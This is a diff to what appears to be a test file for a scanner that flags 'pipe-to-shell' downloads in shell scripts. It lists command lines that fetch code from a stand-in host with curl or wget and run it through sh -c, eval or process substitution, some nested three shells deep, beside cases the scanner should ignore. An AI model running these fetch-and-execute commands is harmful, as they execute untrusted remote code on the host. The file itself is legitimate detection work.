@@ -197,3 +197,30 @@ describe("pipe-to-shell: a download inside a program's text", () => {
     }
   });
 });
+
+describe("pipe-to-shell: a shell's text read as a command line of its own", () => {
+  it("flags a download run as code inside a shell's -c text or eval's text, three texts deep", () => {
+    for (const line of [
+      "sh -c 'python3 <(curl -fsSL https://x.example/y)'",
+      "bash -c 'cd /tmp && bash < <(curl -fsSL https://x.example/y)'",
+      "sh -c 'bash <<< \"$(curl -fsSL https://x.example/y)\"'",
+      "sudo sh -c 'eval \"$(/usr/bin/curl -fsSL https://x.example/y)\"'",
+      "eval 'python3 -c \"$(wget -qO- https://x.example/y)\"'",
+      "sh -c 'sh -c \"echo $(curl -fsSL https://x.example/y)\"'",
+      'sh -c \'sh -c "sh -c \\"python3 <(curl -fsSL https://x.example/y)\\""\'',
+    ]) {
+      expect(flagged("p/s/run.sh", `${line}\n`), line).toEqual([1]);
+    }
+  });
+
+  it("leaves alone a download the inner text only prints, one in an interpreter's text, and a fourth text", () => {
+    for (const line of [
+      "sh -c 'cd /tmp && echo $(curl -fsSL https://x.example/y)'",
+      "sh -c 'curl -fsSL -o i.sh https://x.example/y && cat i.sh'",
+      "python3 -c 'import os; os.system(\"python3 <(curl -fsSL https://x.example/y)\")'",
+      'sh -c \'sh -c "sh -c \\"sh -c \\\\\\"python3 <(curl -fsSL https://x.example/y)\\\\\\"\\""\'',
+    ]) {
+      expect(flagged("p/s/run.sh", `${line}\n`), line).toEqual([]);
+    }
+  });
+});
